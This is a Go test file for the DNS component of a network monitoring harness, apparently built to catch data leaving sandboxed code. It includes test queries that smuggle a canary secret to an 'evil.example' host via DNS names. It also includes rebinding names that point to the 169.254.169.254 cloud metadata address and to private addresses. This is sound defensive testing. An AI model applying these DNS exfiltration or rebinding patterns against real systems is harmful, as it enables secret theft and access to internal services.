package witness

import (
	"crypto/tls"
	"net"
	"net/netip"
	"strings"
	"testing"

	"github.com/miekg/dns"

	"github.com/wallproof/wallproof/battery/witness/addr"
	"github.com/wallproof/wallproof/probes/canary"
	"github.com/wallproof/wallproof/probes/paths"
)

// resolver starts the world's name server on loopback: UDP, TCP and TLS.
func (w *testWorld) resolver() (udp, tcp, dot string) {
	w.t.Helper()
	pc, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		w.t.Fatal(err)
	}
	w.ServeUDP(portOf{OnePort(pc), portDNS})
	listen := func(port uint16) string {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			w.t.Fatal(err)
		}
		w.ServeTCP(Listener{Listener: l, Dest: func(net.Conn) (netip.AddrPort, error) {
			return netip.AddrPortFrom(netip.MustParseAddr("8.8.8.8"), port), nil
		}})
		return l.Addr().String()
	}
	return pc.LocalAddr().String(), listen(portDNS), listen(portDoT)
}

// portOf is a socket whose datagrams were sent to 8.8.8.8 and a port.
type portOf struct {
	Datagrams
	port uint16
}

func (p portOf) Read(b []byte) (int, netip.AddrPort, netip.AddrPort, error) {
	n, src, _, err := p.Datagrams.Read(b)
	return n, src, netip.AddrPortFrom(netip.MustParseAddr("8.8.8.8"), p.port), err
}

func (w *testWorld) ask(c *dns.Client, server, name string, kind uint16) *dns.Msg {
	w.t.Helper()
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(name), kind)
	r, _, err := c.Exchange(q, server)
	if err != nil {
		w.t.Fatal(err)
	}
	return r
}

func TestDNSTransports(t *testing.T) {
	w := newTestWorld(t, nil)
	udp, tcp, dot := w.resolver()
	for i, tc := range []struct {
		client *dns.Client
		server string
	}{
		{&dns.Client{}, udp}, {&dns.Client{Net: "tcp"}, tcp}, {&dns.Client{Net: "tcp-tls", TLSConfig: &tls.Config{InsecureSkipVerify: true}}, dot},
	} {
		r := w.ask(tc.client, tc.server, nonceN(i)+".evil.example", dns.TypeTXT)
		if len(r.Answer) != 1 || r.Answer[0].(*dns.TXT).Txt[0] != proofN(i) {
			t.Errorf("%q: %v", tc.client.Net, r)
		}
		o := w.arrived(nonceN(i), paths.ServiceDNS)
		if len(o) > 0 && (o[0].Host != nonceN(i)+".evil.example" || o[0].Proto != "dns") {
			t.Errorf("observation %+v", o[0])
		}
		r = w.ask(tc.client, tc.server, nonceN(10+i)+".evil.example", dns.TypeA)
		if len(r.Answer) != 1 || len(r.Extra) != 1 || r.Extra[0].(*dns.TXT).Txt[0] != proofN(10+i) {
			t.Errorf("%q: %v", tc.client.Net, r)
		}
	}
}

func TestDNSAddresses(t *testing.T) {
	w := newTestWorld(t, func(c *Config) {
		c.Resolve = map[string][]string{"fixed.example": {"10.1.1.1", "fd00::1"}, "*.mixed.example": {"99.64.0.9", "169.254.169.254"}}
	})
	udp, _, _ := w.resolver()
	c := &dns.Client{}
	tests := []struct {
		name string
		kind uint16
		want string
	}{
		{allowedHost, dns.TypeA, addr.Host4(allowedHost).String()},
		{"API.Allowed.Example", dns.TypeA, addr.Host4(allowedHost).String()},
		{allowedHost, dns.TypeAAAA, addr.Host6(allowedHost).String()},
		{"metadata.google.internal", dns.TypeA, "169.254.169.254"},
		{"host.docker.internal", dns.TypeA, "192.168.65.254"},
		{"kubernetes.default.svc.cluster.local", dns.TypeA, "10.96.0.1"},
		{"db.prod.svc.cluster.local", dns.TypeA, "10.96.0.10"},
		{"fixed.example", dns.TypeA, "10.1.1.1"},
		{"fixed.example", dns.TypeAAAA, "fd00::1"},
		{"x.mixed.example", dns.TypeA, "99.64.0.9 169.254.169.254"},
		{"x.mixed.example", dns.TypeAAAA, ""},
		{"x.to-169-254-169-254.evil.example", dns.TypeA, "169.254.169.254"},
		{"x.to-169-254-169-254.evil.example", dns.TypeAAAA, ""},
		{"x.to6-fd00-ec2--254.evil.example", dns.TypeAAAA, "fd00:ec2::254"},
		{"a.first-99-64-0-1.to-10-0-0-1.evil.example", dns.TypeA, "99.64.0.1"},
		{"a.first-99-64-0-1.to-10-0-0-1.evil.example", dns.TypeA, "10.0.0.1"},
		{"A.First-99-64-0-1.to-10-0-0-1.evil.example", dns.TypeA, "10.0.0.1"},
		{"b.first-99-64-0-1.to-10-0-0-1.evil.example", dns.TypeA, "99.64.0.1"},
		{"c.first-self.to-10-0-0-1.evil.example", dns.TypeA, addr.Host4("c.first-self.to-10-0-0-1.evil.example").String()},
		{"x.to-999-1-1-1.evil.example", dns.TypeA, addr.Host4("x.to-999-1-1-1.evil.example").String()},
	}
	for _, tc := range tests {
		var got []string
		for _, rr := range w.ask(c, udp, tc.name, tc.kind).Answer {
			switch rr := rr.(type) {
			case *dns.A:
				got = append(got, rr.A.String())
			case *dns.AAAA:
				got = append(got, rr.AAAA.String())
			}
		}
		if strings.Join(got, " ") != tc.want {
			t.Errorf("%s %s: %q, want %q", tc.name, dns.TypeToString[tc.kind], got, tc.want)
		}
	}
}

// A name that once pointed elsewhere is still the host's own, wherever of the
// two the request goes; what is private stays private.
func TestRebindingIsClassifiedByAddress(t *testing.T) {
	w := newTestWorld(t, nil)
	name := "r.first-self.to-10-0-0-1.wild.example"
	for _, tc := range []struct{ dst, want string }{
		{addr.Host4(name).String(), paths.ServiceAllowed}, {"10.0.0.1", paths.ServicePrivate}, {"99.64.0.1", paths.ServiceCollector},
	} {
		if got, _ := w.routes.service(netip.MustParseAddr(tc.dst), name, "", false); got != tc.want {
			t.Errorf("%s at %s is %q, want %q", name, tc.dst, got, tc.want)
		}
	}
}

func TestDNSExfiltration(t *testing.T) {
	w := newTestWorld(t, nil)
	udp, _, _ := w.resolver()
	n := nonceN(1)
	w.ask(&dns.Client{}, udp, strings.ToUpper(n[:8])+"."+n[8:16]+"."+n[16:]+".evil.example", dns.TypeA)
	w.arrived(n, paths.ServiceDNS)
	secret := canary.Derive([]byte("dns"))
	w.ask(&dns.Client{}, udp, secret+"."+nonceN(2)+".evil.example", dns.TypeMX)
	o := w.arrived(nonceN(2), paths.ServiceDNS)
	if len(o) != 1 || len(o[0].Obtained) != 1 || o[0].Obtained[0] != canary.Digest(secret) {
		t.Errorf("the canary in a name was not seen: %+v", o)
	}
}

func TestDNSOther(t *testing.T) {
	w := newTestWorld(t, nil)
	udp, _, _ := w.resolver()
	for _, kind := range []uint16{dns.TypeMX, dns.TypeNS, dns.TypeSRV, dns.TypePTR} {
		if r := w.ask(&dns.Client{}, udp, "_http._tcp.svc.example", kind); len(r.Answer) != 1 || r.Rcode != dns.RcodeSuccess {
			t.Errorf("%s: %v", dns.TypeToString[kind], r)
		}
	}
	if r := w.ask(&dns.Client{}, udp, "x.example", dns.TypeHTTPS); len(r.Answer) != 0 || len(r.Ns) != 1 {
		t.Errorf("HTTPS: %v", r)
	}
	for _, raw := range [][]byte{nil, {1, 2, 3}, []byte(strings.Repeat("x", 100)), {0, 1, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0}} {
		reply := w.dnsAnswer(raw, netip.AddrPort{}, netip.MustParseAddrPort("8.8.8.8:53"), "udp")
		if reply != nil {
			m := new(dns.Msg)
			if err := m.Unpack(reply); err != nil || m.Rcode != dns.RcodeFormatError {
				t.Errorf("%q: %v %v", raw, m, err)
			}
		}
	}
}

// No bytes make the name server fail, and what it answers is a message.
func FuzzDNS(f *testing.F) {
	q := new(dns.Msg)
	q.SetQuestion("x.to-10-0-0-1.example.", dns.TypeANY)
	raw, err := q.Pack()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(raw)
	f.Add([]byte{0, 1, 2})
	w, err := New(testConfig(), nil)
	if err != nil {
		f.Fatal(err)
	}
	f.Cleanup(func() { _ = w.Close() })
	f.Fuzz(func(t *testing.T, query []byte) {
		reply := w.dnsAnswer(query, netip.AddrPort{}, netip.MustParseAddrPort("8.8.8.8:53"), "udp")
		if reply == nil {
			return
		}
		m := new(dns.Msg)
		if err := m.Unpack(reply); err != nil || !m.Response || len(reply) > maxUDPAnswer {
			t.Fatalf("%x answers %x: %v", query, reply, err)
		}
	})
}
